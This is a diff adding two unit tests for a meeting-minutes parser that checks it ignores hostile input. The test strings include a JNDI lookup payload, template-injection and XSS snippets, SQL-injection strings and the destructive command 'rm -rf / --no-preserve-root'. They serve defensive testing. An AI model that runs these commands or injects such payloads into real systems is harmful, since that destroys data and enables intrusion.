@@ -289,6 +289,55 @@ describe('parseMinutes on hostile input', () => {
     ).toEqual([{ organisation: 'Home Office', name: 'Official', role: null, deputisingFor: null }]);
   });
 
+  it('takes no action whose task is injected code after its label ("ACTION: {{constructor…}} to run")', () => {
+    const text = [
+      'Inter-Departmental Ministerial Group on Human Trafficking',
+      '',
+      'Present:',
+      '<!everyone>\t<@W0123ABCD> (Chair)',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
+      'ACTION: <!channel> to ${jndi:ldap://example.invalid/x} by 30 February 2014',
+      'ACTION: {{constructor.constructor("alert(1)")()}} to run',
+      'Action: <a href="javascript:alert(3)">NCA</a> to open javascript:alert(3) now',
+    ].join('\n');
+    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
+    // A task in words beside them is read as ever.
+    expect(
+      parseMinutes(
+        `Board\n4 March 2014\n\n1. Data\nACTION: NCA to share the figures {by 1 May}.`,
+      ).actions.map((a) => a.owners),
+    ).toEqual([['NCA']]);
+  });
+
+  it('heads no item with code, takes no owner\'s "to" whose task was markup, and no entry whose body was markup', () => {
+    const text = [
+      '<!channel> MINUTES <!here>',
+      '',
+      'Attendees:',
+      'Home Office\tOfficial',
+      '<@U024BE7LH>\tOfficial (for <!channel>)',
+      '',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
+      '1. ${jndi:ldap://example.invalid/a}',
+      '2. {{7*7}}',
+      "3. '; DROP TABLE minutes; --",
+      'Actions:',
+      'Home Office to <script>alert(1)</script>',
+      '<!channel> to review <!here>',
+      '',
+      "ACTION: ' OR '1'='1",
+      'ACTION: rm -rf / --no-preserve-root',
+      'Next meeting: 13 March 2013 at <script>x</script>',
+    ].join('\n');
+    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
+    // In a dated record the entry whose body was markup is still no one, beside one that is someone.
+    expect(
+      parseMinutes(
+        'Board\n4 March 2014\n\nAttendees:\nHome Office\tOfficial\n<@U1>\tOfficial (for <!channel>)\n\n1. Data',
+      ).attendees,
+    ).toEqual([{ organisation: 'Home Office', name: 'Official', role: null, deputisingFor: null }]);
+  });
+
   it('returns for 5 MB of markup and punctuation that tempts backtracking', () => {
     for (const unit of ['<!', '<p', '((((', '1.1.1.', 'next meeting ', '    \t', '13 ', 'Owner: ', '| a ']) {
       const text = unit.repeat(Math.ceil((5 * 1024 * 1024) / unit.length));
